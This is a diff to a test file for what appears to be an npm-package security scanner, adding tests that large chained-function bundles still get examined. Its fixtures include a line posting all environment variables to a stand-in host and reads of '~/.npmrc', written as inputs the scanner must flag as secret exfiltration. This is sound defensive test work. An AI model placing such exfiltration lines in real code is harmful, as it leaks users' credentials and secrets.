@@ -40,9 +40,29 @@ async function told(files: Readonly<Record<string, string>>): Promise<readonly s
   return findings.filter(({ check }) => check === 'not-examined').map(({ severity }) => severity)
 }
 
+/** Functions that call each other one after the other, of at least so many bytes together. */
+function chained(bytes: number): string {
+  const written: string[] = []
+  for (let at = 0, size = 0; size <= bytes; at += 1) {
+    const line = `function f${at}(x) { return f${at + 1}(x) }`
+    written.push(line)
+    size += line.length + 1
+  }
+  return written.join('\n')
+}
+
+t.test('a bundle whose words are grave is followed far', async (t) => {
+  const bundle = chained(LIMITS.bundleBytes)
+  const sends = `fetch('https://c.invalid/', { method: 'POST', body: JSON.stringify(process.env) })`
+  t.same(await told({ 'a.js': `${bundle}\nf0(fetch('/api')); read('~/.npmrc')\n` }), [], 'nothing of it can do harm')
+  t.same(await told({ 'a.js': `${bundle}\neval(f0(fetch('/api'))); read('~/.npmrc')\n` }), ['low'], 'data goes on')
+  const files = { 'package.json': '{"main":"a.js"}', 'a.js': `${bundle}\nf0(fetch('/api'));\n${sends}\n` }
+  const facts = await inspect(readingOf('npm-tarball', files), { digest: sha256('x'), readAs: 'npm-tarball' })
+  t.ok(facts.findings.some(({ check, severity }) => check === 'secrets-exfiltration' && severity === 'critical'))
+})
+
 t.test('a module that cannot be read is told of, graver where its words are', async (t) => {
-  const chain = Array.from({ length: 30_000 }, (_, at) => `function f${at}(x) { return f${at + 1}(x) }`).join('\n')
-  const costly = `${chain}\nf0(fetch('/api'))\n`
+  const costly = `${chained(LIMITS.graveBundleBytes)}\nf0(fetch('/api'))\n`
   t.same(await told({ 'a.js': costly }), ['low'], 'no word of it is grave')
   t.same(await told({ 'a.js': `${costly}read('~/.npmrc')\n` }), ['medium'], 'it names what is secret, and sends')
   t.same(await told({ 'a.js': `import type { A } from './a'\nvar x = {` }), [], 'no word of it acts')
